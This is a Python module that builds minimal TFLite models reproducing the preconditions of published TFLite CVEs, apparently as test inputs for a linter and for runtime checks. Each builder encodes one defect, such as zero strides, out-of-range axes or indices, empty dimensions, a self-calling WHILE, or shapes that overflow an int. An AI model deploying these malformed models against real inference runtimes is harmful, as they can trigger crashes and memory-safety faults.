"""Tiny models that reproduce the static precondition of published TFLite CVEs.

One function per row of tests/data/cve_catalogue.toml that has a reproducer, named after
the CVE (`cve_2021_29587` for CVE-2021-29587), returning the model's bytes. Each model is
a well-formed flatbuffer whose meaning is wrong in exactly the way the advisory describes
(a zero block size, an axis out of range, a subgraph that calls itself, ...); everything
else is as small and healthy as it can be, so that a runtime's reaction and tfllint's
findings are about that one defect. Tensors that must have a zero-sized dimension are
graph inputs (a constant with no elements has no data, which would be a second defect).

tools/cve_catalogue.py runs them in ai-edge-litert and tflite-micro; tests/
test_cve_catalogue.py checks that they build, read back and keep their recorded outcomes.
"""
from __future__ import annotations

from typing import Callable

import numpy as np

import builder
from builder import ModelBuilder, SubgraphBuilder

# Options layouts the reproducers need beyond builder.OPTIONS: field -> (slot, kind),
# slots in schema.fbs order (checked against the `tflite` bindings by test_cve_catalogue).
EXTRA_OPTIONS = {
    "Conv3DOptions": dict(padding=(0, "int8"), stride_d=(1, "int32"), stride_w=(2, "int32"),
                          stride_h=(3, "int32"), fused_activation_function=(4, "int8"),
                          dilation_d_factor=(5, "int32"), dilation_w_factor=(6, "int32"),
                          dilation_h_factor=(7, "int32")),
    "DivOptions": dict(fused_activation_function=(0, "int8")),
    "EmbeddingLookupSparseOptions": dict(combiner=(0, "int8")),
    "LSHProjectionOptions": dict(type=(0, "int8")),
    "SplitVOptions": dict(num_splits=(0, "int32")),
    "SVDFOptions": dict(rank=(0, "int32"), fused_activation_function=(1, "int8"),
                        asymmetric_quantize_inputs=(2, "bool")),
}
for _table, _layout in EXTRA_OPTIONS.items():
    builder.OPTIONS.setdefault(_table, _layout)

SAME, VALID = 0, 1  # Padding
LSH_DENSE = 2  # LSHProjectionType.DENSE

REPRODUCERS: dict[str, Callable[[], bytes]] = {}


def reproducer(function: Callable[[], ModelBuilder]) -> Callable[[], bytes]:
    """Register `function` under the CVE id its name spells; the registered callable
    returns the built model's bytes."""
    cve = function.__name__.upper().replace("_", "-")

    def build() -> bytes:
        return function().build()

    build.__name__, build.__doc__ = function.__name__, function.__doc__
    REPRODUCERS[cve] = build
    return build


def _model() -> tuple[ModelBuilder, SubgraphBuilder]:
    model = ModelBuilder()
    return model, model.subgraph("main")


def _ints(values) -> np.ndarray:
    return np.asarray(values, np.int32)


def _one_op(op: str, inputs: list[tuple], output_shape, *, out_dtype="FLOAT32",
            **op_kwargs) -> ModelBuilder:
    """A model of one op. Each input is ("x", shape) for a float graph input, ("x", shape,
    dtype) for a graph input of that type, or ("x", ndarray, dtype) for a constant."""
    model, main = _model()
    indices, graph_inputs = [], []
    for name, value, *dtype in inputs:
        dtype = dtype[0] if dtype else "FLOAT32"
        if isinstance(value, np.ndarray):
            indices.append(main.constant(name, value, dtype))
        else:
            indices.append(main.tensor(name, value, dtype))
            graph_inputs.append(indices[-1])
    y = main.tensor("y", output_shape, out_dtype)
    main.op(op, indices, [y], **op_kwargs)
    main.inputs, main.outputs = graph_inputs, [y]
    return model


def _conv_weights(shape) -> np.ndarray:
    return np.full(shape, 0.5, np.float32)


# -- 2020 (TFSA-2020-002 .. 009) ------------------------------------------------------------

@reproducer
def cve_2020_15207() -> ModelBuilder:
    """SUM over constant axis -5 of a rank-2 input: still negative after adding the rank."""
    return _one_op("SUM", [("x", [2, 3]), ("axis", _ints([-5]), "INT32")], [2],
                   options=("ReducerOptions", {"keep_dims": False}))


@reproducer
def cve_2020_15209() -> ModelBuilder:
    """ADD reads a read-write tensor that nothing writes and that is not a graph input."""
    model, main = _model()
    x = main.tensor("x", [1, 4])
    orphan = main.tensor("orphan", [1, 4])
    y = main.tensor("y", [1, 4])
    main.op("ADD", [x, orphan], [y], options=("AddOptions", {}))
    main.inputs, main.outputs = [x], [y]
    return model


@reproducer
def cve_2020_15210() -> ModelBuilder:
    """The second RELU's input is also its output."""
    model, main = _model()
    x = main.tensor("x", [1, 4])
    t = main.tensor("t", [1, 4])
    main.op("RELU", [x], [t])
    main.op("RELU", [t], [t])
    main.inputs, main.outputs = [x], [t]
    return model


@reproducer
def cve_2020_15211() -> ModelBuilder:
    """ADD's second input is the optional-tensor index -1, which ADD does not accept."""
    model, main = _model()
    x = main.tensor("x", [1, 4])
    y = main.tensor("y", [1, 4])
    main.op("ADD", [x, -1], [y], options=("AddOptions", {}))
    main.inputs, main.outputs = [x], [y]
    return model


def _segment_sum(ids) -> ModelBuilder:
    return _one_op("SEGMENT_SUM", [("data", [4, 2]), ("segment_ids", _ints(ids), "INT32")],
                   [1, 2])


@reproducer
def cve_2020_15212() -> ModelBuilder:
    """SEGMENT_SUM with a negative constant segment id."""
    return _segment_sum([0, 0, -1, 0])


@reproducer
def cve_2020_15213() -> ModelBuilder:
    """SEGMENT_SUM whose last constant segment id is 2**30: output dim 0 is 2**30 + 1."""
    return _segment_sum([0, 0, 0, 1 << 30])


@reproducer
def cve_2020_15214() -> ModelBuilder:
    """SEGMENT_SUM with unsorted constant segment ids whose last one is the smallest."""
    return _segment_sum([3, 2, 1, 0])


# -- TF 2.5 (TFSA-2021-073 .. 094) --------------------------------------------------------

def _conv(op: str, options: tuple[str, dict], *, input_shape=(1, 4, 4, 1),
          filter_shape=(1, 3, 3, 1), bias=1, output_shape=(1, 4, 4, 1),
          filter_input: bool = False) -> ModelBuilder:
    model, main = _model()
    x = main.tensor("x", list(input_shape))
    if filter_input:  # zero-sized: a graph input, as a constant would have no data
        w = main.tensor("w", list(filter_shape))
    else:
        w = main.constant("w", _conv_weights(filter_shape))
    b = main.constant("b", np.zeros(bias, np.float32)) if bias else main.tensor("b", [0])
    y = main.tensor("y", list(output_shape))
    main.op(op, [x, w, b], [y], options=options)
    main.inputs = [x, w] if filter_input else [x]
    if not bias:
        main.inputs.append(b)
    main.outputs = [y]
    return model


def _depthwise(stride: int) -> tuple[str, dict]:
    return ("DepthwiseConv2DOptions", {"padding": SAME, "stride_w": stride, "stride_h": stride,
                                       "depth_multiplier": 1})


@reproducer
def cve_2021_29585() -> ModelBuilder:
    """CONV_2D with stride_w 0."""
    return _conv("CONV_2D", ("Conv2DOptions", {"padding": SAME, "stride_w": 0, "stride_h": 1}))


@reproducer
def cve_2021_29586() -> ModelBuilder:
    """MAX_POOL_2D with stride_w and stride_h 0."""
    return _one_op("MAX_POOL_2D", [("x", [1, 4, 4, 1])], [1, 4, 4, 1],
                   options=("Pool2DOptions", {"padding": SAME, "stride_w": 0, "stride_h": 0,
                                              "filter_width": 2, "filter_height": 2}))


@reproducer
def cve_2021_29587() -> ModelBuilder:
    """SPACE_TO_DEPTH with block_size 0."""
    return _one_op("SPACE_TO_DEPTH", [("x", [1, 4, 4, 1])], [1, 4, 4, 1],
                   options=("SpaceToDepthOptions", {"block_size": 0}))


@reproducer
def cve_2021_29588() -> ModelBuilder:
    """TRANSPOSE_CONV with stride_w and stride_h 0."""
    model, main = _model()
    shape = main.constant("output_shape", _ints([1, 4, 4, 1]), "INT32")
    w = main.constant("w", _conv_weights((1, 3, 3, 1)))
    x = main.tensor("x", [1, 4, 4, 1])
    y = main.tensor("y", [1, 4, 4, 1])
    main.op("TRANSPOSE_CONV", [shape, w, x], [y],
            options=("TransposeConvOptions", {"padding": SAME, "stride_w": 0, "stride_h": 0}))
    main.inputs, main.outputs = [x], [y]
    return model


@reproducer
def cve_2021_29589() -> ModelBuilder:
    """GATHER_ND whose params have a zero-sized dimension."""
    return _one_op("GATHER_ND", [("params", [2, 0]), ("indices", _ints([[0]]), "INT32")],
                   [1, 0])


@reproducer
def cve_2021_29590() -> ModelBuilder:
    """MAXIMUM broadcasting a [1, 4] input against an empty [0, 4] input."""
    return _one_op("MAXIMUM", [("a", [1, 4]), ("b", [0, 4])], [0, 4])


@reproducer
def cve_2021_29591() -> ModelBuilder:
    """WHILE whose cond and body are the subgraph the WHILE is in (it calls itself)."""
    model, main = _model()
    x = main.tensor("x", [1], "INT32")
    y = main.tensor("y", [1], "INT32")
    main.op("WHILE", [x], [y], options=("WhileOptions", {"cond_subgraph_index": 0,
                                                         "body_subgraph_index": 0}))
    main.inputs, main.outputs = [x], [y]
    return model


@reproducer
def cve_2021_29592() -> ModelBuilder:
    """RESHAPE whose 1-D shape input is a read-write tensor that nothing writes."""
    model, main = _model()
    x = main.tensor("x", [1, 4])
    shape = main.tensor("shape", [2], "INT32")
    y = main.tensor("y", [2, 2])
    main.op("RESHAPE", [x, shape], [y])
    main.inputs, main.outputs = [x], [y]
    return model


@reproducer
def cve_2021_29593() -> ModelBuilder:
    """BATCH_TO_SPACE_ND with a 0 in its constant block shape."""
    return _one_op("BATCH_TO_SPACE_ND", [("x", [4, 2, 2, 1]),
                                         ("block_shape", _ints([2, 0]), "INT32"),
                                         ("crops", _ints([[0, 0], [0, 0]]), "INT32")],
                   [1, 4, 4, 1])


@reproducer
def cve_2021_29594() -> ModelBuilder:
    """CONV_2D whose input has batch size 0."""
    return _conv("CONV_2D", ("Conv2DOptions", {"padding": SAME, "stride_w": 1, "stride_h": 1}),
                 input_shape=(0, 4, 4, 1), output_shape=(0, 4, 4, 1))


@reproducer
def cve_2021_29595() -> ModelBuilder:
    """DEPTH_TO_SPACE with block_size 0."""
    return _one_op("DEPTH_TO_SPACE", [("x", [1, 2, 2, 4])], [1, 2, 2, 4],
                   options=("DepthToSpaceOptions", {"block_size": 0}))


@reproducer
def cve_2021_29596() -> ModelBuilder:
    """EMBEDDING_LOOKUP whose value table has 0 rows."""
    return _one_op("EMBEDDING_LOOKUP", [("ids", _ints([0]), "INT32"), ("value", [0, 4])],
                   [1, 4])


@reproducer
def cve_2021_29597() -> ModelBuilder:
    """SPACE_TO_BATCH_ND with a 0 in its constant block shape."""
    return _one_op("SPACE_TO_BATCH_ND", [("x", [1, 4, 4, 1]),
                                         ("block_shape", _ints([2, 0]), "INT32"),
                                         ("paddings", _ints([[0, 0], [0, 0]]), "INT32")],
                   [4, 2, 2, 1])


def stateful(op: str, input_shape, weights: dict, state: tuple, output_shape, *,
             state_is_variable: bool, **op_kwargs) -> ModelBuilder:
    """A recurrent op: a float input, constant float weights (name -> shape, the last a
    zero bias, the others ones), a state tensor (name, shape) and one output."""
    model, main = _model()
    x = main.tensor("x", list(input_shape))
    names = list(weights)
    constants = [main.constant(name, (np.zeros if name == names[-1] else np.ones)(
        weights[name], np.float32)) for name in names]
    memory = main.tensor(state[0], list(state[1]), is_variable=state_is_variable)
    y = main.tensor("y", list(output_shape))
    main.op(op, [x, *constants, memory], [y], **op_kwargs)
    main.inputs, main.outputs = [x], [y]
    return model


def _svdf(rank: int, state_is_variable: bool) -> ModelBuilder:
    return stateful("SVDF", (1, 4), {"weights_feature": (2, 4), "weights_time": (2, 2),
                                     "bias": 2}, ("state", (1, 4)), (1, 2),
                    state_is_variable=state_is_variable,
                    options=("SVDFOptions", {"rank": rank}))


@reproducer
def cve_2021_29598() -> ModelBuilder:
    """SVDF with rank 0."""
    return _svdf(0, True)


@reproducer
def cve_2021_29599() -> ModelBuilder:
    """SPLIT with num_splits 0."""
    return _one_op("SPLIT", [("axis", _ints(1), "INT32"), ("x", [1, 4])], [1, 4],
                   options=("SplitOptions", {"num_splits": 0}))


@reproducer
def cve_2021_29600() -> ModelBuilder:
    """ONE_HOT at axis 1 whose indices have a zero-sized dimension 0."""
    return _one_op("ONE_HOT", [("indices", [0, 2], "INT32"), ("depth", _ints(3), "INT32"),
                               ("on", np.array(1, np.float32), "FLOAT32"),
                               ("off", np.array(0, np.float32), "FLOAT32")],
                   [0, 3, 2], options=("OneHotOptions", {"axis": 1}))


@reproducer
def cve_2021_29601() -> ModelBuilder:
    """CONCATENATION of two int8 inputs of 2**30 elements each along axis 0: the output
    dimension, 2**31, does not fit in an int."""
    return _one_op("CONCATENATION", [("a", [1 << 30], "INT8"), ("b", [1 << 30], "INT8")],
                   [(1 << 31) - 1], out_dtype="INT8",
                   options=("ConcatenationOptions", {"axis": 0}))


@reproducer
def cve_2021_29602() -> ModelBuilder:
    """DEPTHWISE_CONV_2D whose input has 0 channels."""
    return _conv("DEPTHWISE_CONV_2D", _depthwise(stride=1), input_shape=(1, 4, 4, 0),
                 filter_shape=(1, 3, 3, 2), bias=2, output_shape=(1, 4, 4, 2))


@reproducer
def cve_2021_29603() -> ModelBuilder:
    """ARG_MAX over constant axis 5 of a rank-2 input."""
    return _one_op("ARG_MAX", [("x", [1, 4]), ("axis", _ints([5]), "INT32")], [1],
                   out_dtype="INT32", options=("ArgMaxOptions", {"output_type": 2}))


@reproducer
def cve_2021_29604() -> ModelBuilder:
    """HASHTABLE_LOOKUP whose value table has 0 rows."""
    model, main = _model()
    lookups = main.constant("lookups", _ints([0]), "INT32")
    keys = main.tensor("keys", [0], "INT32")
    values = main.tensor("values", [0, 4])
    y = main.tensor("y", [1, 4])
    hits = main.tensor("hits", [1], "UINT8")
    main.op("HASHTABLE_LOOKUP", [lookups, keys, values], [y, hits])
    main.inputs, main.outputs = [keys, values], [y, hits]
    return model


@reproducer
def cve_2021_29606() -> ModelBuilder:
    """SPLIT_V over constant axis 5 of a rank-2 input."""
    model, main = _model()
    x = main.tensor("x", [1, 4])
    sizes = main.constant("size_splits", _ints([2, 2]), "INT32")
    axis = main.constant("axis", _ints(5), "INT32")
    a, b = main.tensor("a", [1, 2]), main.tensor("b", [1, 2])
    main.op("SPLIT_V", [x, sizes, axis], [a, b], options=("SplitVOptions", {"num_splits": 2}))
    main.inputs, main.outputs = [x], [a, b]
    return model


# -- TF 2.6 (TFSA-2021-154 .. 164) --------------------------------------------------------

@reproducer
def cve_2021_37680() -> ModelBuilder:
    """FULLY_CONNECTED whose weights have 0 input features (dimension 1 is 0)."""
    model, main = _model()
    x = main.tensor("x", [1, 4])
    w = main.tensor("w", [3, 0])
    b = main.constant("b", np.zeros(3, np.float32))
    y = main.tensor("y", [1, 3])
    main.op("FULLY_CONNECTED", [x, w, b], [y], options=("FullyConnectedOptions", {}))
    main.inputs, main.outputs = [x, w], [y]
    return model


@reproducer
def cve_2021_37681() -> ModelBuilder:
    """SVDF whose state input (input 4) is not a variable tensor."""
    return _svdf(1, False)


@reproducer
def cve_2021_37682() -> ModelBuilder:
    """int8 FULLY_CONNECTED whose int8 weights carry no quantization parameters."""
    model, main = _model()
    x = main.tensor("x", [1, 4], "INT8", scale=[0.1], zero_point=[0])
    w = main.constant("w", np.ones((3, 4), np.int8), "INT8")
    b = main.constant("b", np.zeros(3, np.int32), "INT32", scale=[0.01], zero_point=[0])
    y = main.tensor("y", [1, 3], "INT8", scale=[0.1], zero_point=[0])
    main.op("FULLY_CONNECTED", [x, w, b], [y], options=("FullyConnectedOptions", {}))
    main.inputs, main.outputs = [x], [y]
    return model


@reproducer
def cve_2021_37683() -> ModelBuilder:
    """int32 DIV by a constant divisor of zeros."""
    return _one_op("DIV", [("x", [1, 4], "INT32"), ("d", _ints([[0, 0, 0, 0]]), "INT32")],
                   [1, 4], out_dtype="INT32", options=("DivOptions", {}))


@reproducer
def cve_2021_37684() -> ModelBuilder:
    """AVERAGE_POOL_2D with a 0 x 0 filter."""
    return _one_op("AVERAGE_POOL_2D", [("x", [1, 4, 4, 1])], [1, 4, 4, 1],
                   options=("Pool2DOptions", {"padding": VALID, "stride_w": 1, "stride_h": 1,
                                              "filter_width": 0, "filter_height": 0}))


@reproducer
def cve_2021_37685() -> ModelBuilder:
    """EXPAND_DIMS at constant axis -100000."""
    return _one_op("EXPAND_DIMS", [("x", [1, 4]), ("axis", _ints([-100000]), "INT32")],
                   [1, 1, 4])


@reproducer
def cve_2021_37686() -> ModelBuilder:
    """STRIDED_SLICE of a rank-1 input with an ellipsis and 8-element begin/end/strides."""
    return _one_op("STRIDED_SLICE", [("x", [4]), ("begin", _ints([0] * 8), "INT32"),
                                     ("end", _ints([1] * 8), "INT32"),
                                     ("strides", _ints([1] * 8), "INT32")],
                   [1], options=("StridedSliceOptions", {"ellipsis_mask": 1}))


@reproducer
def cve_2021_37687() -> ModelBuilder:
    """GATHER with the constant index -10."""
    return _one_op("GATHER", [("params", [4]), ("indices", _ints([-10]), "INT32")], [1],
                   options=("GatherOptions", {"axis": 0}))


@reproducer
def cve_2021_37688() -> ModelBuilder:
    """ADD broadcasting a [1, 1, 2, 0] input against a [0] input (a Dense layer of 0
    units followed by its bias)."""
    return _one_op("ADD", [("a", [1, 1, 2, 0]), ("b", [0])], [1, 1, 2, 0],
                   options=("AddOptions", {}))


@reproducer
def cve_2021_37691() -> ModelBuilder:
    """LSH_PROJECTION whose input has 0 rows."""
    return _one_op("LSH_PROJECTION", [("hash", np.ones((2, 2), np.float32), "FLOAT32"),
                                      ("x", [0, 3])],
                   [4], out_dtype="INT32",
                   options=("LSHProjectionOptions", {"type": LSH_DENSE}))


# -- TF 2.8 and later ---------------------------------------------------------------------

@reproducer
def cve_2022_21741() -> ModelBuilder:
    """DEPTHWISE_CONV_2D with stride_w and stride_h 0."""
    return _conv("DEPTHWISE_CONV_2D", _depthwise(stride=0))


@reproducer
def cve_2022_23557() -> ModelBuilder:
    """CONV_2D whose bias has 0 elements."""
    return _conv("CONV_2D", ("Conv2DOptions", {"padding": SAME, "stride_w": 1, "stride_h": 1}),
                 bias=0)


@reproducer
def cve_2022_23559() -> ModelBuilder:
    """EMBEDDING_LOOKUP_SPARSE whose constant dense_shape is [65536, 65536, 1]: the lookup
    size, 2**32, overflows an int."""
    model, main = _model()
    ids = main.constant("ids", _ints([0]), "INT32")
    indices = main.constant("indices", _ints([[0, 0, 0]]), "INT32")
    dense_shape = main.constant("dense_shape", _ints([65536, 65536, 1]), "INT32")
    weights = main.constant("weights", np.ones(1, np.float32))
    value = main.tensor("value", [2, 4])
    y = main.tensor("y", [1, 1, 4])
    main.op("EMBEDDING_LOOKUP_SPARSE", [ids, indices, dense_shape, weights, value], [y],
            options=("EmbeddingLookupSparseOptions", {"combiner": 0}))
    main.inputs, main.outputs = [value], [y]
    return model


@reproducer
def cve_2022_35937() -> ModelBuilder:
    """GATHER_ND with the constant index 5 into a params dimension of size 4."""
    return _one_op("GATHER_ND", [("params", [4, 2]), ("indices", _ints([[5]]), "INT32")],
                   [1, 2])


@reproducer
def cve_2022_35939() -> ModelBuilder:
    """SCATTER_ND with the constant index 7 into an output dimension of size 4."""
    return _one_op("SCATTER_ND", [("indices", _ints([[7]]), "INT32"), ("updates", [1, 2]),
                                  ("shape", _ints([4, 2]), "INT32")], [4, 2])


@reproducer
def cve_2022_41894() -> ModelBuilder:
    """CONV_3D_TRANSPOSE with a bias and 4 input channels for 1 output channel."""
    model, main = _model()
    shape = main.constant("output_shape", _ints([1, 2, 2, 2, 1]), "INT32")
    w = main.constant("w", _conv_weights((1, 1, 1, 1, 4)))
    x = main.tensor("x", [1, 2, 2, 2, 4])
    b = main.constant("b", np.zeros(1, np.float32))
    y = main.tensor("y", [1, 2, 2, 2, 1])
    main.op("CONV_3D_TRANSPOSE", [shape, w, x, b], [y],
            options=("Conv3DOptions", {"padding": VALID, "stride_d": 1, "stride_w": 1,
                                       "stride_h": 1}))
    main.inputs, main.outputs = [x], [y]
    return model


@reproducer
def cve_2023_27579() -> ModelBuilder:
    """CONV_2D whose filter has 0 input channels."""
    return _conv("CONV_2D", ("Conv2DOptions", {"padding": SAME, "stride_w": 1, "stride_h": 1}),
                 filter_shape=(1, 3, 3, 0), filter_input=True)
